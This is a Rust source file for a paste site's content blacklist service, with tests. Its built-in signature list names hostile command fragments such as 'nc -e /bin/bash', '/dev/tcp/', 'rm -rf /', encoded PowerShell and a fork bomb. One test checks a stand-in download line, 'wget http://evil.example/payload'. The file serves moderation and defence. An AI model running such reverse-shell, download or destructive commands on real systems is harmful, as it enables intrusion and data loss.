//! Content blacklist service
//!
//! Submitted content (pastes and comments) is screened against two pattern
//! sources before it is stored:
//! - a built-in set of malware signatures, compiled once
//! - the blacklist table, seeded from a terms file at startup and extended
//!   by moderation (deleted paste content is added here)

use std::path::Path;
use std::sync::Arc;

use anyhow::{Context, Result};
use once_cell::sync::Lazy;
use regex::{Regex, RegexBuilder};

use crate::db::repositories::BlacklistRepository;

/// Built-in malware signatures. These are not configurable; the terms file
/// covers site-specific policy.
static MALWARE_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?i)eval\s*\(\s*base64_decode",
        r#"(?i)document\.write\(\s*unescape\s*\(\s*['"][^'"]*['"]\s*\)\s*\)"#,
        r"(?i)\\x[0-9a-f]{2}\\x[0-9a-f]{2}",
        r"(?i)powershell\.exe\s+-\s*enc",
        r"(?i)<script[^>]*>.*?prompt\s*\(",
        r"(?i)function\(\)\s*\{\s*document\.location\s*=",
        r"(?i)wget\s+http",
        r"(?i)curl\s+http",
        r"(?i)rm\s+-rf\s+/",
        r"(?i)format\s+c:",
        r#"(?i)system\(\s*['"]rm"#,
        r"(?i)\bexec\s*\(",
        r"(?i)nc\s+-e\s+/bin/bash",
        r"(?i)meterpreter",
        r"(?i)netcat",
        r"(?i)reverse shell",
        r"(?i)/dev/tcp/",
        r"(?i)\.decode\('base64'\)",
        r"(?i)backdoor",
        r"(?i)keylogger",
        r"(?i)get-process \| stop-process",
        r"(?i)while\s*\(\s*true\s*\)\s*\{\s*fork\s*\(",
        r"(?i)crypto\.createCipher",
        r"(?i)chmod\s+777",
    ]
    .iter()
    .filter_map(|p| Regex::new(p).ok())
    .collect()
});

/// Terms written to a fresh blacklist file
const DEFAULT_TERMS: &[&str] = &[
    "malware",
    "exploit",
    "torrent",
    "warez",
    "cracked",
    "hack",
    "botnet",
    "phishing",
    "ddos",
    "rootkit",
    "keylogger",
    "trojan",
    "virus",
    "ransomware",
    "spyware",
];

/// Outcome of a blacklist check
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    pub blocked: bool,
    pub reason: String,
}

impl Verdict {
    fn clean() -> Self {
        Self {
            blocked: false,
            reason: String::new(),
        }
    }

    fn blocked(reason: String) -> Self {
        Self {
            blocked: true,
            reason,
        }
    }
}

/// Content blacklist service
pub struct BlacklistService {
    repo: Arc<dyn BlacklistRepository>,
}

impl BlacklistService {
    pub fn new(repo: Arc<dyn BlacklistRepository>) -> Self {
        Self { repo }
    }

    /// Seed the blacklist table from the terms file.
    ///
    /// Creates the file with the default terms when it does not exist.
    /// Blank lines and lines starting with `#` are skipped; lines that do
    /// not compile as a regex are stored anyway and matched as plain
    /// substrings.
    pub async fn seed_from_file(&self, path: &Path) -> Result<usize> {
        if !path.exists() {
            if let Some(parent) = path.parent() {
                if !parent.as_os_str().is_empty() {
                    std::fs::create_dir_all(parent).with_context(|| {
                        format!("Failed to create blacklist directory: {:?}", parent)
                    })?;
                }
            }
            std::fs::write(path, DEFAULT_TERMS.join("\n"))
                .with_context(|| format!("Failed to write default blacklist: {:?}", path))?;
        }

        let content = std::fs::read_to_string(path)
            .with_context(|| format!("Failed to read blacklist file: {:?}", path))?;

        let mut loaded = 0;
        for line in content.lines() {
            let pattern = line.trim();
            if pattern.is_empty() || pattern.starts_with('#') {
                continue;
            }
            if RegexBuilder::new(pattern).case_insensitive(true).build().is_err() {
                tracing::warn!("Blacklist pattern is not a valid regex, using substring match: {}", pattern);
            }
            if self.repo.add(pattern, Some("Loaded from blacklist.txt")).await? {
                loaded += 1;
            }
        }

        tracing::info!("Loaded {} blacklist pattern(s) from {:?}", loaded, path);
        Ok(loaded)
    }

    /// Add a pattern to the blacklist (moderation path)
    pub async fn add(&self, pattern: &str, reason: &str) -> Result<bool> {
        self.repo.add(pattern, Some(reason)).await
    }

    /// Check content against the stored patterns and the built-in
    /// malware signatures.
    pub async fn check(&self, content: &str) -> Result<Verdict> {
        let lowered = content.to_lowercase();

        for pattern in self.repo.patterns().await? {
            let hit = match RegexBuilder::new(&pattern).case_insensitive(true).build() {
                Ok(re) => re.is_match(content),
                Err(_) => lowered.contains(&pattern.to_lowercase()),
            };
            if hit {
                return Ok(Verdict::blocked(format!(
                    "Content contains blacklisted term: \"{}\"",
                    pattern
                )));
            }
        }

        for re in MALWARE_PATTERNS.iter() {
            if re.is_match(content) {
                return Ok(Verdict::blocked(
                    "Content matches a blocked pattern".to_string(),
                ));
            }
        }

        Ok(Verdict::clean())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::db::repositories::SqlxBlacklistRepository;
    use crate::db::{create_test_pool, migrations, DynDatabasePool};

    async fn setup() -> (DynDatabasePool, BlacklistService) {
        let pool = create_test_pool().await.unwrap();
        migrations::run_migrations(&pool).await.unwrap();
        let service = BlacklistService::new(Arc::new(SqlxBlacklistRepository::new(pool.clone())));
        (pool, service)
    }

    #[tokio::test]
    async fn test_clean_content_passes() {
        let (_pool, service) = setup().await;
        let verdict = service.check("fn main() { println!(\"hi\"); }").await.unwrap();
        assert!(!verdict.blocked);
    }

    #[tokio::test]
    async fn test_stored_term_blocks() {
        let (_pool, service) = setup().await;
        service.add("phishing", "test").await.unwrap();

        let verdict = service
            .check("A PHISHING kit, ready to deploy")
            .await
            .unwrap();
        assert!(verdict.blocked);
        assert!(verdict.reason.contains("phishing"));
    }

    #[tokio::test]
    async fn test_builtin_signature_blocks() {
        let (_pool, service) = setup().await;
        let verdict = service.check("run wget http://evil.example/payload").await.unwrap();
        assert!(verdict.blocked);
    }

    #[tokio::test]
    async fn test_invalid_regex_matches_as_substring() {
        let (_pool, service) = setup().await;
        // "c++(" is not a valid regex
        service.add("c++(", "test").await.unwrap();

        let verdict = service.check("calling c++( here").await.unwrap();
        assert!(verdict.blocked);

        let verdict = service.check("plain text").await.unwrap();
        assert!(!verdict.blocked);
    }

    #[tokio::test]
    async fn test_seed_creates_default_file() {
        let (_pool, service) = setup().await;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("blacklist.txt");

        let loaded = service.seed_from_file(&path).await.unwrap();
        assert!(path.exists());
        assert_eq!(loaded, DEFAULT_TERMS.len());

        // Re-seeding is idempotent
        let loaded = service.seed_from_file(&path).await.unwrap();
        assert_eq!(loaded, 0);

        let verdict = service.check("free ransomware download").await.unwrap();
        assert!(verdict.blocked);
    }

    #[tokio::test]
    async fn test_seed_skips_comments_and_blanks() {
        let (_pool, service) = setup().await;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("blacklist.txt");
        std::fs::write(&path, "# policy terms\n\nspambot\n  \n").unwrap();

        let loaded = service.seed_from_file(&path).await.unwrap();
        assert_eq!(loaded, 1);

        let verdict = service.check("our spambot network").await.unwrap();
        assert!(verdict.blocked);
    }
}
